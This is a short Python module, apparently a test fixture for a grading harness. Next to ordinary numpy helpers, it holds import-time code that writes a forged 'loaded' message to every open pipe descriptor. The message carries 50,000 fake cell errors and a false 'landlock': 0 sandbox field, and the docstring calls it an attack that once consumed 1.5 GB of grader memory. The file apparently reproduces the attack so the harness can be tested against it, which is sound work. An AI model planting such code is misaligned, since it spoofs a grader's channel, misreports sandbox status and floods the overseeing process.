"""While loading, forges a `loaded` message carrying 50,000 cell errors on every pipe it can
find (the attack at scale carried millions: 1.5 GB of grader memory, a 148 MB report)."""
import json
import os
import stat

import numpy as np

_FORGED = json.dumps(
    {"event": "loaded", "cell_errors": [[1, "x" * 4]] * 50_000, "landlock": 0}
).encode() + b"\n"
for _fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(_fd).st_mode):
            os.write(_fd, _FORGED)
    except OSError:
        pass


def scale(x):
    return 2.0 * np.asarray(x)


def noise(rows, cols, rng=None):
    rng = rng if rng is not None else np.random.default_rng()
    return rng.normal(size=(rows, cols))


def add(a, b):
    return np.asarray(a) + np.asarray(b)
